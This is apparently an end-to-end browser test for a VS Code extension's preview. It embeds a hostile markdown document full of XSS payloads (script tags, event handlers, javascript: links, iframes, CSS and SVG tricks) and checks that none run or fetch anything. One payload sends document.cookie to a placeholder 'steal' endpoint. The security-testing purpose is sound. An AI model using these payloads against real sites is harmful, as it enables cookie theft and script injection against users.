// Preview security in a real browser (issue 7): a hostile document — script tags, event handlers,
// javascript: and data: links, remote images, iframes, CSS url(), SVG scripts, forms, meta refresh,
// plus the hostile-HTML corpus of test/fixtures/hostile — opened in the completeness preview of the
// real workbench (code-server + Chromium). Nothing from the document may run (no dialog, no console
// message from its content) and nothing may be fetched except from the code-server origin.
// One host start for the whole file. Screenshot: test-results/e2e-preview-hostile-en-hostile.png.
import * as assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { FrameLocator, Request } from 'playwright-core';
import { startHost, type Host } from '../../scripts/vscode/launch.mjs';
import { ROOT } from '../../scripts/vscode/paths.mjs';
import { errorOnScreen, openFile, runCommand, sleep, until, waitForWorkbench } from './workbench';

const FILE = 'hostile.md';
const MARK = 'CSPLAN-PWNED';
const EVIL = 'evil.invalid';
const nls = JSON.parse(readFileSync(path.join(ROOT, 'package.nls.json'), 'utf8')) as Record<string, string>;

/** Every trick in one document; each payload would leave a trace (a dialog, a console line with MARK, a request to EVIL). */
function hostileDocument(): string {
  const corpusDir = path.join(ROOT, 'test', 'fixtures', 'hostile');
  const corpus = readdirSync(corpusDir)
    .filter((f) => f.endsWith('.md'))
    .sort()
    .map((f) => readFileSync(path.join(corpusDir, f), 'utf8').replace(/^---[\s\S]*?\n---\n/, ''))
    .join('\n\n');
  return `---
type: plan
period: 2026-Q1
title: "<script>console.log('${MARK}-title')</script>"
---
# 2026年第一季度客服工作计划 <img src=x onerror="console.log('${MARK}-h1');alert('${MARK}')">

## 一、目标

客户满意度从91%提升至95%。<script>console.log('${MARK}-inline'); alert('${MARK}-inline')</script>

<script>fetch('http://${EVIL}/steal?c=' + document.cookie); console.log('${MARK}-block')</script>

<img src="http://${EVIL}/pixel.png" onerror="console.log('${MARK}-img')" onload="console.log('${MARK}-img')">

![remote image](http://${EVIL}/markdown.png "tracking pixel")

<iframe src="http://${EVIL}/frame" onload="console.log('${MARK}-iframe')"></iframe>

<iframe srcdoc="<script>parent.console.log('${MARK}-srcdoc')</script>"></iframe>

<div style="background:url(http://${EVIL}/bg.png)">styled</div>

<style>@import url(http://${EVIL}/x.css); body { background: url(http://${EVIL}/body.png) }</style>

<link rel="stylesheet" href="http://${EVIL}/link.css">

<svg><script>console.log('${MARK}-svg')</script><image href="http://${EVIL}/svg.png"/></svg>

<object data="http://${EVIL}/object"></object><embed src="http://${EVIL}/embed">

<meta http-equiv="refresh" content="0;url=http://${EVIL}/refresh">

<base href="http://${EVIL}/">

<form action="http://${EVIL}/post"><input autofocus onfocus="console.log('${MARK}-focus')"></form>

<details open ontoggle="console.log('${MARK}-toggle')"><summary>x</summary></details>

<video src="http://${EVIL}/v.mp4" poster="http://${EVIL}/poster.png"></video><audio src="http://${EVIL}/a.mp3" autoplay></audio>

[javascript link](javascript:console.log('${MARK}-link')) [data link](data:text/html,<script>console.log('${MARK}')</script>) [vbscript](vbscript:msgbox)

<a href="javascript:console.log('${MARK}-a')" id="jslink">click</a>

## 二、具体措施

| 措施 | 责任人 | 截止时间 | 指标 |
|---|---|---|---|
| <img src=http://${EVIL}/cell.png> 上线智能分流 | 陈工 | 2026年2月底 | 分流率≥30% |
| 新人带教 <script>console.log('${MARK}-cell')</script> |  | 尽快 | 上手周期≤15天 |

${corpus}
`;
}

describe('preview of a hostile document in the browser (en)', function () {
  this.timeout(180_000);
  let host: Host;
  let content: FrameLocator;
  let folder: string;
  const dialogs: string[] = [];
  const consoleLines: string[] = [];
  const requests: { url: string; frame: string }[] = [];

  before(async function () {
    this.timeout(240_000);
    folder = mkdtempSync(path.join(os.tmpdir(), 'csplan-hostile-ws-'));
    writeFileSync(path.join(folder, FILE), hostileDocument());
    host = await startHost({ extensionDevelopmentPath: ROOT, locale: 'en', label: 'e2e-preview-hostile-en', workspace: folder });
    // Listen on the context and the page: webviews are iframes inside the page, and their events
    // (dialogs, console, requests) surface there.
    host.page.on('dialog', (d) => {
      dialogs.push(`${d.type()}: ${d.message()}`);
      void d.dismiss().catch(() => {});
    });
    host.page.on('console', (m) => consoleLines.push(m.text()));
    const onRequest = (r: Request) => {
      let frame = '';
      try {
        frame = r.frame().url();
      } catch {
        frame = '(service worker)';
      }
      requests.push({ url: r.url(), frame });
    };
    host.context.on('request', onRequest);
    await waitForWorkbench(host.page);
    await openFile(host.page, FILE);
  });

  afterEach(async function () {
    if (this.currentTest?.state === 'failed' && host) await host.screenshot(`failed-${this.currentTest.title.replace(/\W+/g, '-').slice(0, 50)}`).catch(() => {});
  });

  after(async () => {
    await host?.close();
    if (folder) rmSync(folder, { recursive: true, force: true });
  });

  it('renders the document as text, with none of its active content', async () => {
    const { page } = host;
    await runCommand(page, nls['csplan.command.openPreview']);
    content = page.frameLocator('iframe.webview.ready').last().frameLocator('#active-frame');
    await until('the preview of the hostile document', async () => {
      const error = await errorOnScreen(page);
      if (error) throw new assert.AssertionError({ message: `VS Code shows an error instead of the preview: ${error}` });
      return (await content.locator('article.csplan-doc h1').count()) > 0;
    }, 90_000);
    assert.match(await content.locator('article.csplan-doc h1').first().innerText(), /2026年第一季度客服工作计划/);
    assert.match(await content.locator('article.csplan-doc').innerText(), /上线智能分流/);
    const doc = content.locator('article.csplan-doc');
    for (const sel of ['script', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'input', 'svg', 'video', 'audio', '[onerror]', '[onload]', '[onfocus]', '[ontoggle]', '[style*="url("]', 'a[href^="javascript:"]', 'a[href^="data:"]', 'a[href^="vbscript:"]', `img[src*="${EVIL}"]`]) {
      assert.equal(await doc.locator(sel).count(), 0, `the preview holds ${sel}`);
    }
    // The scripts in the webview are the extension's (with the nonce) and VS Code's own; none of the document's.
    const scripts = content.locator('script');
    for (let i = 0; i < (await scripts.count()); i++) {
      const src = (await scripts.nth(i).getAttribute('src')) ?? '';
      const body = await scripts.nth(i).evaluate((el) => el.textContent ?? '');
      assert.ok(!src.includes(EVIL) && !body.includes(MARK) && !/xss/i.test(body), `a script from the document: ${src || body.slice(0, 80)}`);
    }
    await host.screenshot('hostile');
  });

  it('runs nothing from the document: no dialog, no console message from its content, even after clicks', async () => {
    // Every link left is one a person may follow (http(s), mailto, a fragment or a relative path); a
    // click on one goes through VS Code (openExternal, with its own prompt), which is the reader's
    // choice, not the document's: those are not clicked here. Anything else would be clicked.
    const links = content.locator('article.csplan-doc a[href]');
    const hrefs: string[] = [];
    for (let i = 0; i < (await links.count()); i++) hrefs.push((await links.nth(i).getAttribute('href')) ?? '');
    const odd = hrefs.filter((h) => !/^(https?:|mailto:|#)/i.test(h) && /^[a-z][a-z0-9+.-]*:/i.test(h));
    assert.deepEqual(odd, [], 'links with a scheme a reader should not be offered');
    const clickable = hrefs.map((h, i) => ({ h, i })).filter((x) => !/^(https?:|mailto:)/i.test(x.h)).slice(0, 8);
    for (const { i } of clickable) await links.nth(i).click({ timeout: 2000 }).catch(() => {});
    await content.locator('article.csplan-doc h2').first().click().catch(() => {});
    await content.locator('article.csplan-doc td:not(:has(a))').first().dblclick().catch(() => {});
    await sleep(3000); // let anything that was going to fire, fire
    assert.deepEqual(dialogs, [], 'a dialog opened');
    const fromContent = consoleLines.filter((l) => l.includes(MARK) || l.includes(EVIL) || /xss/i.test(l));
    assert.deepEqual(fromContent, [], 'console messages from the document');
  });

  it('fetches nothing but from the code-server origin', async () => {
    const origin = host.origin as string;
    const evil = requests.filter((r) => r.url.includes(EVIL) || r.url.includes('evil.example'));
    assert.deepEqual(evil, [], 'requests to the hosts the document names');
    const fromWebviews = requests.filter((r) => /webview/.test(r.frame));
    assert.ok(fromWebviews.length > 0, 'the webview frames were observed');
    // The extension's own files (asWebviewUri) have URLs on vscode-cdn.net that the webview's service
    // worker answers from the code-server origin: allowed only for files of the extension itself.
    const ownResource = (url: string) => {
      const m = /^https:\/\/[^/]+\.vscode-resource\.vscode-cdn\.net(\/[^?#]*)/.exec(url);
      return !!m && decodeURIComponent(m[1]).startsWith(ROOT + '/');
    };
    const foreign = fromWebviews.filter((r) => !r.url.startsWith(origin + '/') && !/^(data|blob|vscode-webview):/.test(r.url) && !ownResource(r.url));
    assert.deepEqual(foreign, [], 'requests from the preview to another origin');
    console.log(`      ${requests.length} requests observed (${fromWebviews.length} from webview frames), none to another origin`);
  });
});
